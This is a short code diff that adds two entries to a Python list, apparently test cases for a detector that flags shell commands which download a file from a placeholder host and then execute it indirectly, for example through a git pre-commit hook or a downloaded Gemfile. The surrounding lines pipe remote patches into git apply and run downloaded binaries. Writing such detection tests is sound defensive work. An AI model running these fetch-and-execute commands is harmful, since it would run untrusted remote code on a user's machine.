@@ -229,6 +229,8 @@ FETCHED = [
     "curl -o up https://example.com/x && chmod +x up && PATH=.:$PATH up",
     "curl -o bin/up https://example.com/x; chmod +x bin/up; export PATH=$PWD/bin:$PATH; up",
     "curl -o a.7z https://example.com/x && 7z x a.7z -otools && node tools/up.js",
+    "curl -o .husky/pre-commit https://example.com/x && git commit -m x",
+    "curl -o Gemfile https://example.com/x && bundle install",
     # What changes the code that is there.
     "curl https://example.com/a.diff | git apply && python3 main.py",
     "curl https://example.com/a.mbox | git am; node main.js",
